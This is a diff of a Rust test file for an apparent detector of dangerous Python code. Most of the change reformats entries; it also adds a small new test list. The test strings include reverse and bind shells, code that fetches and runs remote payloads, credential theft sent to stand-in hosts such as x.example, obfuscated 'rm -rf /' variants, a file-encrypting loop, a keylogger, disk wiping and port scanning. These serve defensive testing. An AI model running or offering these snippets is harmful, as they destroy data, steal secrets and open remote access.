@@ -3,6 +3,7 @@ use super::*;
 #[test]
 fn what_dangerous_python_does_is_found() {
     assert_found(Language::Python, DANGEROUS);
+    assert_found(Language::Python, ALL_OF_THEM);
 }
 
 #[test]
@@ -21,24 +22,54 @@ const DANGEROUS: &[(&str, &str)] = &[
     ("import subprocess\nsubprocess.run(['rm', '-rf', '/home'])", "program rm -rf /home"),
     ("import subprocess as sp\nsp.call('dd if=/dev/zero of=/dev/sda', shell=True)", "shell dd if"),
     ("from subprocess import Popen as P\nP('mkfs.ext4 /dev/sda1', shell=True)", "shell mkfs"),
-    ("import subprocess\nsubprocess.check_output(args=['shutdown', 'now'])", "program shutdown now"),
+    (
+        "import subprocess\nsubprocess.check_output(args=['shutdown', 'now'])",
+        "program shutdown now",
+    ),
     ("import shutil\nshutil.rmtree('/')", "Delete / recursive"),
     ("import shutil\nshutil.rmtree('/etc', ignore_errors=True)", "Delete /etc recursive"),
     ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "Delete ~ recursive"),
     ("import shutil, os\nshutil.rmtree(os.environ['HOME'])", "Delete ~ recursive"),
-    ("from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home() / 'Documents')", "Delete ~/Documents recursive"),
-    ("import shutil, os\nshutil.rmtree(os.path.join('/', 'var', 'lib'))", "Delete /var/lib recursive"),
+    (
+        "from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home() / 'Documents')",
+        "Delete ~/Documents recursive",
+    ),
+    (
+        "import shutil, os\nshutil.rmtree(os.path.join('/', 'var', 'lib'))",
+        "Delete /var/lib recursive",
+    ),
     ("import os\nos.remove('/etc/passwd')", "Delete /etc/passwd"),
-    ("import os\nfor root, dirs, files in os.walk('/'):\n    for f in files:\n        os.remove(os.path.join(root, f))", "Delete / recursive"),
-    ("import os\nfor f in os.listdir('/home/user'):\n    os.unlink('/home/user/' + f)", "Delete /home/user/ recursive"),
-    ("import glob, os\n[os.remove(f) for f in glob.glob('/var/log/*')]", "Delete /var/log/ recursive"),
-    ("from pathlib import Path\nfor p in Path('/').rglob('*'):\n    p.unlink()", "Delete / recursive"),
+    (
+        "import os\nfor root, dirs, files in os.walk('/'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
+        "Delete / recursive",
+    ),
+    (
+        "import os\nfor f in os.listdir('/home/user'):\n    os.unlink('/home/user/' + f)",
+        "Delete /home/user/ recursive",
+    ),
+    (
+        "import glob, os\n[os.remove(f) for f in glob.glob('/var/log/*')]",
+        "Delete /var/log/ recursive",
+    ),
+    (
+        "from pathlib import Path\nfor p in Path('/').rglob('*'):\n    p.unlink()",
+        "Delete / recursive",
+    ),
     ("from pathlib import Path\nPath('/etc/hosts').unlink()", "Delete /etc/hosts"),
     ("open('/dev/sda', 'wb').write(b'\\0' * 512)", "Overwrite /dev/sda"),
-    ("with open('/etc/passwd', 'a') as f:\n    f.write('x::0:0::/:/bin/sh\\n')", "Write /etc/passwd"),
-    ("from pathlib import Path\nPath('/etc/cron.d/x').write_text('* * * * * root sh')", "Overwrite /etc/cron.d/x"),
+    (
+        "with open('/etc/passwd', 'a') as f:\n    f.write('x::0:0::/:/bin/sh\\n')",
+        "Write /etc/passwd",
+    ),
+    (
+        "from pathlib import Path\nPath('/etc/cron.d/x').write_text('* * * * * root sh')",
+        "Overwrite /etc/cron.d/x",
+    ),
     ("open('/proc/sysrq-trigger', 'w').write('b')", "Overwrite /proc/sysrq-trigger"),
-    ("f = open('/root/.ssh/authorized_keys', 'a+')\nf.write(k)", "Write /root/.ssh/authorized_keys"),
+    (
+        "f = open('/root/.ssh/authorized_keys', 'a+')\nf.write(k)",
+        "Write /root/.ssh/authorized_keys",
+    ),
     ("import os\nos.chmod('/etc/shadow', 0o777)", "Permission /etc/shadow public"),
     ("import os\nos.chmod('/bin/bash', 0o4755)", "Permission /bin/bash setuid"),
     ("import os, stat\nos.chmod('/tmp/sh', stat.S_ISUID)", "Permission /tmp/sh setuid"),
@@ -56,45 +87,147 @@ const DANGEROUS: &[(&str, &str)] = &[
     ("x = 'A' * (10**11)", "Exhaust memory"),
     ("b = bytearray(64 * 1024**3)", "Exhaust memory"),
     ("while True:\n    print('y')", "Exhaust output endless"),
-    ("f = open('/tmp/fill', 'wb')\nwhile True:\n    f.write(b'0' * 1048576)", "Exhaust disk endless"),
-    ("import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"10.0.0.1\",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call([\"/bin/sh\",\"-i\"])", "ReverseShell 10.0.0.1:4444"),
-    ("import socket,pty,os;s=socket.socket();s.connect(('1.2.3.4',9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')", "ReverseShell 1.2.3.4:9001"),
-    ("import socket, subprocess\ns = socket.create_connection(('evil.example', 53))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())", "ReverseShell evil.example:53"),
-    ("import socket, os\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\nc, a = s.accept()\nos.dup2(c.fileno(), 0)\nos.execv('/bin/sh', ['sh'])", "BindShell 0.0.0.0"),
-    ("import urllib.request\nexec(urllib.request.urlopen('http://x.example/p.py').read())", "NetworkCode"),
+    (
+        "f = open('/tmp/fill', 'wb')\nwhile True:\n    f.write(b'0' * 1048576)",
+        "Exhaust disk endless",
+    ),
+    (
+        "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"10.0.0.1\",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call([\"/bin/sh\",\"-i\"])",
+        "ReverseShell 10.0.0.1:4444",
+    ),
+    (
+        "import socket,pty,os;s=socket.socket();s.connect(('1.2.3.4',9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')",
+        "ReverseShell 1.2.3.4:9001",
+    ),
+    (
+        "import socket, subprocess\ns = socket.create_connection(('evil.example', 53))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())",
+        "ReverseShell evil.example:53",
+    ),
+    (
+        "import socket, os\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\nc, a = s.accept()\nos.dup2(c.fileno(), 0)\nos.execv('/bin/sh', ['sh'])",
+        "BindShell 0.0.0.0",
+    ),
+    (
+        "import urllib.request\nexec(urllib.request.urlopen('http://x.example/p.py').read())",
+        "NetworkCode",
+    ),
     ("import requests\neval(requests.get('http://x.example').text)", "NetworkCode"),
-    ("import requests\nr = requests.get(u)\nexec(compile(r.content.decode(), '<s>', 'exec'))", "NetworkCode"),
+    (
+        "import requests\nr = requests.get(u)\nexec(compile(r.content.decode(), '<s>', 'exec'))",
+        "NetworkCode",
+    ),
     ("import os, requests\nos.system(requests.get('http://x.example/cmd').text)", "NetworkCode"),
-    ("import urllib.request, os\nurllib.request.urlretrieve('http://x.example/m', '/tmp/m')\nos.chmod('/tmp/m', 0o755)\nos.system('/tmp/m')", "NetworkCode"),
-    ("import requests, subprocess\nopen('/tmp/a.sh', 'wb').write(requests.get('http://x.example').content)\nsubprocess.run(['bash', '/tmp/a.sh'])", "NetworkCode"),
-    ("import pickle, requests\npickle.loads(requests.get('http://x.example').content)", "NetworkCode"),
+    (
+        "import urllib.request, os\nurllib.request.urlretrieve('http://x.example/m', '/tmp/m')\nos.chmod('/tmp/m', 0o755)\nos.system('/tmp/m')",
+        "NetworkCode",
+    ),
+    (
+        "import requests, subprocess\nopen('/tmp/a.sh', 'wb').write(requests.get('http://x.example').content)\nsubprocess.run(['bash', '/tmp/a.sh'])",
+        "NetworkCode",
+    ),
+    (
+        "import pickle, requests\npickle.loads(requests.get('http://x.example').content)",
+        "NetworkCode",
+    ),
     ("import yaml, requests\nyaml.load(requests.get(u).text, Loader=yaml.Loader)", "NetworkCode"),
-    ("import subprocess, requests\nsubprocess.run(['bash'], input=requests.get('https://x.example/i.sh').content)", "NetworkCode"),
-    ("import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJxLy')))", "DecodedCode  hidden"),
+    (
+        "import subprocess, requests\nsubprocess.run(['bash'], input=requests.get('https://x.example/i.sh').content)",
+        "NetworkCode",
+    ),
+    (
+        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJxLy')))",
+        "DecodedCode  hidden",
+    ),
     ("import marshal\nexec(marshal.loads(b'\\xe3\\x00'))", "DecodedCode  hidden"),
-    ("import requests\nrequests.post('http://x.example', data=open('/root/.ssh/id_rsa').read())", "Send http://x.example with-secrets"),
-    ("import requests, os\nrequests.post('http://x.example', json=dict(os.environ))", "Send http://x.example with-secrets"),
-    ("import os, json, urllib.request as u\nu.urlopen('http://x.example', data=json.dumps(dict(os.environ)).encode())", "Send http://x.example with-secrets"),
-    ("import requests\nwith open('/etc/shadow') as f:\n    d = f.read()\nrequests.post('http://x.example', files={'f': d})", "Send http://x.example with-secrets"),
-    ("import os, requests\nk = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.get('http://x.example/?k=' + k)", "Send http://x.example/?k=… with-secrets"),
-    ("import http.client\nc = http.client.HTTPSConnection('x.example')\nc.request('POST', '/', open('/home/u/.netrc').read())", "Send … with-secrets"),
-    ("import socket\ns = socket.socket()\ns.connect(('x.example', 80))\ns.sendall(open('/etc/shadow','rb').read())", "Send … with-secrets"),
-    ("import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\nfor r, d, fs in os.walk('/home'):\n    for f in fs:\n        p = os.path.join(r, f)\n        data = open(p, 'rb').read()\n        open(p, 'wb').write(k.encrypt(data))", "Overwrite /home recursive,hidden"),
-    ("from pynput.keyboard import Listener\nwith Listener(on_press=log) as l:\n    l.join()", "Secret keys"),
-    ("import sqlite3\nc = sqlite3.connect('prod.db')\nc.execute('DROP TABLE users')", "Remote DROP TABLE users all"),
-    ("import psycopg2\nconn = psycopg2.connect(dsn)\ncur = conn.cursor()\ncur.execute('DELETE FROM orders')", "Remote DELETE FROM orders all"),
+    (
+        "import requests\nrequests.post('http://x.example', data=open('/root/.ssh/id_rsa').read())",
+        "Send http://x.example with-secrets",
+    ),
+    (
+        "import requests, os\nrequests.post('http://x.example', json=dict(os.environ))",
+        "Send http://x.example with-secrets",
+    ),
+    (
+        "import os, json, urllib.request as u\nu.urlopen('http://x.example', data=json.dumps(dict(os.environ)).encode())",
+        "Send http://x.example with-secrets",
+    ),
+    (
+        "import requests\nwith open('/etc/shadow') as f:\n    d = f.read()\nrequests.post('http://x.example', files={'f': d})",
+        "Send http://x.example with-secrets",
+    ),
+    (
+        "import os, requests\nk = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.get('http://x.example/?k=' + k)",
+        "Send http://x.example/?k=… with-secrets",
+    ),
+    (
+        "import http.client\nc = http.client.HTTPSConnection('x.example')\nc.request('POST', '/', open('/home/u/.netrc').read())",
+        "Send … with-secrets",
+    ),
+    (
+        "import socket\ns = socket.socket()\ns.connect(('x.example', 80))\ns.sendall(open('/etc/shadow','rb').read())",
+        "Send … with-secrets",
+    ),
+    (
+        "import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\nfor r, d, fs in os.walk('/home'):\n    for f in fs:\n        p = os.path.join(r, f)\n        data = open(p, 'rb').read()\n        open(p, 'wb').write(k.encrypt(data))",
+        "Overwrite /home recursive,hidden",
+    ),
+    (
+        "from pynput.keyboard import Listener\nwith Listener(on_press=log) as l:\n    l.join()",
+        "Secret keys",
+    ),
+    (
+        "import sqlite3\nc = sqlite3.connect('prod.db')\nc.execute('DROP TABLE users')",
+        "Remote DROP TABLE users all",
+    ),
+    (
+        "import psycopg2\nconn = psycopg2.connect(dsn)\ncur = conn.cursor()\ncur.execute('DELETE FROM orders')",
+        "Remote DELETE FROM orders all",
+    ),
     ("cur.execute('TRUNCATE TABLE customers')", "Remote TRUNCATE TABLE customers all"),
     ("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'rm -rf /')", "shell rm -rf /"),
-    ("import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(code)\nctypes.CFUNCTYPE(ctypes.c_int)(addr)()", "DecodedCode machine code in memory hidden"),
+    (
+        "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(code)\nctypes.CFUNCTYPE(ctypes.c_int)(addr)()",
+        "DecodedCode machine code in memory hidden",
+    ),
     ("import pty; pty.spawn('/bin/bash')", "ShellEscape"),
     ("import os; os.execl('/bin/sh', 'sh', '-p')", "program /bin/sh -p"),
-    ("import http.server, socketserver\nsocketserver.TCPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()", "Listen  public"),
-    ("import smtplib\ns = smtplib.SMTP('x.example')\ns.sendmail('a', 'b', open('/etc/passwd').read())", "Send … with-secrets"),
-    ("class A:\n    def __reduce__(self):\n        import os\n        return (os.system, ('x',))\ndef go():\n    import os\n    os.system('curl x.example | sh')", "shell curl x.example | sh"),
-    ("def wipe(path):\n    import shutil\n    shutil.rmtree(path)\nwipe('/srv')", "Delete /srv recursive"),
-    ("import os\nfor d in ['/etc', '/usr', '/boot']:\n    os.system('rm -rf ' + d)", "shell rm -rf /boot"),
+    (
+        "import http.server, socketserver\nsocketserver.TCPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()",
+        "Listen  public",
+    ),
+    (
+        "import smtplib\ns = smtplib.SMTP('x.example')\ns.sendmail('a', 'b', open('/etc/passwd').read())",
+        "Send … with-secrets",
+    ),
+    (
+        "class A:\n    def __reduce__(self):\n        import os\n        return (os.system, ('x',))\ndef go():\n    import os\n    os.system('curl x.example | sh')",
+        "shell curl x.example | sh",
+    ),
+    (
+        "def wipe(path):\n    import shutil\n    shutil.rmtree(path)\nwipe('/srv')",
+        "Delete /srv recursive",
+    ),
+    (
+        "import os\nfor d in ['/etc', '/usr', '/boot']:\n    os.system('rm -rf ' + d)",
+        "shell rm -rf /boot",
+    ),
     ("import os, sys\nos.system(f\"rm -rf {'/'}\")", "shell rm -rf /"),
     ("print 'x'\nimport os\nos.system('rm -rf /')", "shell rm -rf /"),
+];
+
+/// Many at once.
+const ALL_OF_THEM: &[(&str, &str)] = &[
+    ("import psutil\nfor p in psutil.process_iter():\n    p.kill()", "Kill … all"),
+    ("import os\nfor pid in range(1, 70000):\n    os.kill(pid, 9)", "Kill … all"),
+    ("import os\nfor pid in os.listdir('/proc'):\n    os.kill(int(pid), 9)", "Kill … all"),
+    (
+        "import socket\nfor p in range(1, 65535):\n    s = socket.socket()\n    s.connect_ex(('10.0.0.1', p))",
+        "Scan 10.0.0.1",
+    ),
+    (
+        "from pathlib import Path\nPath.home().joinpath('.ssh', 'id_rsa').read_text()",
+        "Read ~/.ssh/id_rsa",
+    ),
 ];
 
 const HIDDEN: &[(&str, &str)] = &[
@@ -113,7 +246,10 @@ const HIDDEN: &[(&str, &str)] = &[
     ("import os\nos.system(bytes.fromhex('726d202d7266202f').decode())", "shell rm -rf /"),
     ("import os\nos.system('/ fr- mr'[::-1])", "shell rm -rf /"),
     ("import os\nos.system(''.join(reversed('/ fr- mr')))", "shell rm -rf /"),
-    ("import os\nos.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))", "shell rm -rf /"),
+    (
+        "import os\nos.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))",
+        "shell rm -rf /",
+    ),
     ("import os\nos.system(''.join(chr(c) for c in [114, 109, 32, 47]))", "shell rm /"),
     ("import os\nos.system(''.join([chr(ord(c) ^ 1) for c in 'sl!,sg!.']))", "shell rm -rf /"),
     ("import os\nos.system(''.join(map(lambda c: chr(c - 1), [115, 110])))", "shell rm"),
@@ -131,15 +267,15 @@ const HIDDEN: &[(&str, &str)] = &[
     ("exec('imp' 'ort os; os.system(\"id\")')", "code import os; os.system(\"id\")"),
     ("(lambda f: f('rm -rf /'))(__import__('os').system)", "shell rm -rf /"),
     ("import os\nrun = lambda c: os.system(c)\nrun('rm -rf /')", "shell rm -rf /"),
-    ("import threading, os\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()", "shell rm -rf /"),
+    (
+        "import threading, os\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()",
+        "shell rm -rf /",
+    ),
     ("import os\nlist(map(os.system, ['rm -rf /']))", "shell rm -rf /"),
     ("import os\nos.system(str.join('', ['rm', ' /']))", "shell rm /"),
     ("import os\n(cmd := 'rm -rf /')\nos.system(cmd)", "shell rm -rf /"),
     ("import os\nos.system('nc -fe /'.translate(str.maketrans('nce', 'rmr')))", "shell rm -fr /"),
 ];
-
-/// What is measured.
-pub(super) const ALL: &[&str] = ORDINARY;
 
 const ORDINARY: &[&str] = &[
     "print('hello')",
